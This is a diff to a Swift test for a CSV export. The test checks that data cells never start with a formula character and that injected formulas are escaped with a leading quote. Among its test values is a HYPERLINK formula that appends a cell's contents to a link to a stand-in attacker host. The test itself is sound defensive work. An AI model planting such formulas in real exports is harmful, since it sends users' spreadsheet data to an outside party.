@@ -131,9 +131,11 @@ struct ExportTests {
         // The operator's command gives the same, and every export is on the audit trail.
         let (status, csv) = try server.command(["export", "--format", "csv", "--limit", "10"])
         #expect(status == 0 && csv.hasPrefix("\"id\",\"receipt\",\"submitted_at\",\"referrer\",\"revision\""))
-        // No cell starts with a formula; each such value is there, prefixed with a quote (export_check.py reverses it).
+        // No value's cell starts with a formula (the header holds our own column names); each such value is
+        // there, prefixed with a quote (export_check.py reverses it).
+        let rows = csv.components(separatedBy: "\r\n").dropFirst().joined(separator: "\r\n")
         for start in ["\"=", "\"+", "\"-", "\"@", "\"\t", "\"\r"] {
-            #expect(!csv.contains("," + start) && !csv.contains("\n" + start), "a CSV cell starts with \(start.dropFirst())")
+            #expect(!rows.contains("," + start) && !rows.hasPrefix(start) && !rows.contains("\n" + start), "a CSV cell starts with \(start.dropFirst())")
         }
         #expect(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Call back\"\")\""))
         #expect(csv.contains("\"'@SUM(1+1)") && csv.contains("\"'-2+3\"") && csv.contains("\"''quoted by the child'\""))
